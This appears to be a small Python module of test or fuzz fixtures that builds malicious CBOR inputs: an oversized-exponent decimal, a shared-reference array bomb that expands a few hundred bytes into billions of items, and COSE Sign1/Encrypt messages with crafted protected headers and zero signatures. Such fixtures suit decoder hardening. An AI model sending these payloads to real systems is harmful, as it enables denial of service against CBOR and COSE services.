"""CBOR that nobody means well with: a few bytes that cost a decoder everything."""

import cbor2

# A decimal whose exponent no decimal can have.
TWELVE_BYTES = bytes.fromhex("c5821b7fffffffffffffff01")


def shared_references(levels=19, width=8):
    """Items by the power of levels, in 517 bytes: each array holds the one before it many times."""
    arrays = [b"\xd8\x1c\x80"]
    for before in range(levels):
        reference = b"\xd8\x1d" + cbor2.dumps(before)
        arrays.append(b"\xd8\x1c" + bytes([0x80 + width]) + reference * width)
    return bytes([0x80 + len(arrays)]) + b"".join(arrays)


def signed_by_nobody(protected):
    """A COSE_Sign1 whose protected header, a byte string to whoever reads the message only, is this."""
    return b"\xd2\x84" + cbor2.dumps(protected) + b"\xa0\x40" + cbor2.dumps(bytes(64))


def sealed_by_nobody(protected):
    """A COSE_Encrypt of the same kind."""
    return b"\xd8\x60\x84" + cbor2.dumps(protected) + b"\xa1\x05\x4c" + bytes(12) + b"\x40\x80"
